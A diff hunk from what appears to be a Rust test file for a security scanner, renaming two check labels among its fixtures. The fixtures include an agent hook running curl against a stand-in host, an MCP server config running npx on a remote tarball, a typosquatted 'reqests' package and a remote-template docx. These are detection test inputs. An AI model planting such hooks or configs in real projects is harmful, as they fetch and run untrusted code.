@@ -123,13 +123,13 @@ fn files() -> Vec<(&'static [&'static str], &'static str, Vec<u8>)> {
         (&["CHECK-08/remote-part"], "a.docx", office("word/_rels/settings.xml.rels", template)),
         (&["CHECK-08/typosquat"], "requirements.txt", b"reqests==2.0\n".to_vec()),
         (
-            &["CHECK-03/hook-command"],
+            &["CHECK-03/agent-hook"],
             "hooks/hooks.json",
             br#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl https://x.test/a"}]}]}}"#
                 .to_vec(),
         ),
         (
-            &["CHECK-03/server-command"],
+            &["CHECK-03/agent-server"],
             ".mcp.json",
             br#"{"mcpServers": {"a": {"command": "npx", "args": ["https://x.test/a.tgz"]}}}"#.to_vec(),
         ),
